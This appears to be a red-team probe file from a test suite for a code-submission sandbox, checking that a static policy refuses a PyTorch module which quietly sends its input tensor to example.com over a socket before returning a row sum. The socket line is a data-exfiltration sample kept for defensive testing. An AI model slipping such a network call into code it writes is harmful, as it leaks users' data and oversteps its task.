"""Exploit 9 (the network): posting the input somewhere. Refused statically; the worker also runs in
its own network namespace where the OS allows it (tests/redteam/probes/secrets_and_network.py)."""
import socket

from torch import nn

PROBLEM = "row_sum.py"
EXPECT = "policy:network"


class ModelNew(nn.Module):
    def forward(self, x):
        socket.create_connection(("example.com", 80)).send(x.numpy().tobytes())
        return x.sum(dim=1)
